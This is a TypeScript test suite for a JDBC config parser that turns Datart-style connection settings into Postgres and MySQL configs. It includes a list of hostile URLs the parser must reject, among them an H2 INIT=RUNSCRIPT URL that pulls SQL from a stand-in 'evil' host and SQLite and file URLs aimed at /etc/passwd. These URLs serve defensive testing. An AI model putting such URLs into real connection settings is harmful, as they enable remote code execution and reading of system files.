import { describe, expect, it } from 'vitest';
import { isQueryError } from '../errors';
import { providerTemplate } from '../sources/provider-templates';
import { parseJdbcConfig } from './jdbc-config';

describe('parseJdbcConfig', () => {
  it("maps Datart's JDBC shape to native configs", () => {
    expect(
      parseJdbcConfig({
        dbType: 'POSTGRESQL',
        url: 'jdbc:postgresql://db.example.com:6543/sales?sslmode=require',
        user: 'u',
        password: 'p',
      }),
    ).toEqual({
      kind: 'postgres',
      host: 'db.example.com',
      port: 6543,
      database: 'sales',
      user: 'u',
      password: 'p',
      ssl: true,
      poolSize: 10,
    });
    expect(
      parseJdbcConfig({ dbType: 'MYSQL', url: 'jdbc:mysql://10.0.0.5/shop', user: 'root' }),
    ).toMatchObject({ kind: 'mysql', host: '10.0.0.5', port: 3306, database: 'shop', ssl: false });
    expect(parseJdbcConfig({ dbType: 'mariadb', url: 'jdbc:mariadb://[::1]:3307/x' })).toMatchObject({
      kind: 'mysql',
      host: '::1',
      port: 3307,
    });
  });

  it.each([
    ['H2', "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"],
    ['SQLITE', 'jdbc:sqlite:/etc/passwd'],
    ['POSTGRESQL', 'jdbc:postgresql:///var/run/postgresql'],
    ['POSTGRESQL', 'file:///etc/passwd'],
    ['POSTGRESQL', 'jdbc:postgresql://h1,h2/db'],
    ['POSTGRESQL', 'jdbc:postgresql://host:99999/db'],
    ['POSTGRESQL', 'jdbc:mysql://host/db'],
    ['ORACLE', 'jdbc:oracle:thin:@host:1521:x'],
  ])('refuses %s %s', (dbType, url) => {
    try {
      parseJdbcConfig({ dbType, url });
      expect.unreachable();
    } catch (e) {
      expect(isQueryError(e, 'SOURCE_CONFIG_INVALID')).toBe(true);
    }
  });

  it('reads the pool size from the config or its properties, 1..100, default 10', () => {
    const base = { dbType: 'POSTGRESQL', url: 'jdbc:postgresql://h/db' };
    expect(parseJdbcConfig(base).poolSize).toBe(10);
    expect(parseJdbcConfig({ ...base, poolSize: 25 }).poolSize).toBe(25);
    expect(parseJdbcConfig({ ...base, poolSize: '3' }).poolSize).toBe(3);
    expect(parseJdbcConfig({ ...base, properties: { poolSize: 100 } }).poolSize).toBe(100);
    expect(parseJdbcConfig({ ...base, poolSize: 1, properties: { poolSize: 50 } }).poolSize).toBe(1);
    for (const bad of [0, 101, 2.5, -1, 'ten', '1e2', true]) {
      try {
        parseJdbcConfig({ ...base, properties: { poolSize: bad } });
        expect.unreachable(`poolSize ${String(bad)} was accepted`);
      } catch (e) {
        expect(isQueryError(e, 'SOURCE_CONFIG_INVALID')).toBe(true);
      }
    }
  });

  it('marks the password as encrypted in the JDBC template', () => {
    const attrs = providerTemplate('JDBC').attributes;
    expect(attrs.find((a) => a.name === 'password')).toMatchObject({ encrypt: true, type: 'password' });
    expect(attrs.find((a) => a.name === 'url')?.required).toBe(true);
  });
});
